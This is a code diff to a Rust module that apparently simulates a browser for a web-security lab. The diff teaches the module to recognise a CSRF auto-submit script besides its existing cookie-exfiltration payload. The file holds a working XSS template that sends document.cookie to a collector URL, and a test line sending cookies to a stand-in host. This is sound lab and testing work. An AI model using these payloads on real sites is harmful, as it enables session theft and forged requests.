@@ -2,13 +2,18 @@
 //!
 //! The model "runs" an inline script only where a real browser would: the `<script>` element
 //! must exist in the parsed page (escaped text is not a script) and the page's
-//! Content-Security-Policy must allow inline script. It understands exactly one program, the
-//! lab's exfiltration payload; anything else is ignored and reported so.
+//! Content-Security-Policy must allow inline script. It understands exactly two programs, the
+//! lab's exfiltration payload and the auto-submit of the page's first form (a CSRF page);
+//! anything else is ignored and reported so.
 use url::Url;
 
-/// The one program the model knows. `{collector}` is replaced by the collector URL (ending in `?c=`).
+/// The exfiltration program. `{collector}` is replaced by the collector URL (ending in `?c=`).
 pub const EXFILTRATE_COOKIES_TEMPLATE: &str =
     "<script>fetch('{collector}'+encodeURIComponent(document.cookie))</script>";
+
+/// The auto-submit program: a page that sends its first form the moment it is shown, as a
+/// cross-site request forgery page does with a hidden form.
+pub const AUTO_SUBMIT_FIRST_FORM: &str = "<script>document.forms[0].submit()</script>";
 
 /// What happened to one inline script on a page.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -17,6 +22,14 @@ pub enum ScriptEffect {
     Exfiltrated {
         document_cookie: String,
         request: Url,
+    },
+    /// The auto-submit program ran: the page's first form went to `action` as a top-level
+    /// navigation started by the page. `status` is the final answer after redirects; `None` if
+    /// the request failed (the reason is in the browser's `script_errors`).
+    SubmittedForm {
+        action: Url,
+        method: String,
+        status: Option<u16>,
     },
     /// The page's Content-Security-Policy forbade inline script.
     BlockedByCsp { policy: String },
@@ -110,6 +123,33 @@ pub fn parse_exfiltration(script: &str) -> Option<String> {
         ] => Some((*collector).to_string()),
         _ => None,
     }
+}
+
+/// Whether the script text is the auto-submit program, `document.forms[0].submit()` (whitespace
+/// between tokens allowed, an optional `;`), compared token by token like [`parse_exfiltration`].
+pub fn is_auto_submit(script: &str) -> bool {
+    let Some(tokens) = tokenize(script) else {
+        return false;
+    };
+    let tokens = match tokens.split_last() {
+        Some((Token::Punct(';'), rest)) => rest,
+        _ => &tokens[..],
+    };
+    matches!(
+        tokens,
+        [
+            Token::Word("document"),
+            Token::Punct('.'),
+            Token::Word("forms"),
+            Token::Punct('['),
+            Token::Word("0"),
+            Token::Punct(']'),
+            Token::Punct('.'),
+            Token::Word("submit"),
+            Token::Punct('('),
+            Token::Punct(')'),
+        ]
+    )
 }
 
 /// A JavaScript token, as far as the model needs them.
@@ -274,6 +314,34 @@ mod tests {
         ] {
             assert_eq!(parse_exfiltration(script), None, "{script}");
         }
+    }
+
+    #[test]
+    fn auto_submit_is_recognised() {
+        let page = format!("<form method=post action=/x></form>{AUTO_SUBMIT_FIRST_FORM}");
+        let scripts = crate::html::inline_scripts(&page);
+        assert_eq!(scripts.len(), 1);
+        assert!(is_auto_submit(&scripts[0]));
+        assert!(is_auto_submit("\n document . forms [ 0 ] . submit ( ) ; "));
+    }
+
+    #[test]
+    fn other_programs_are_not_auto_submit() {
+        for script in [
+            "document.forms[1].submit()",
+            "document.forms[0].submit",
+            "document.forms[0].submit(); alert(1)",
+            "document.form[0].submit()",
+            "window.document.forms[0].submit()",
+            "document.forms[0].requestSubmit()",
+            "document.forms[0].submit(1)",
+            "fetch('http://c/?c='+encodeURIComponent(document.cookie))",
+            "",
+        ] {
+            assert!(!is_auto_submit(script), "{script}");
+        }
+        // And the auto-submit is not mistaken for the exfiltration program.
+        assert_eq!(parse_exfiltration("document.forms[0].submit()"), None);
     }
 
     #[test]
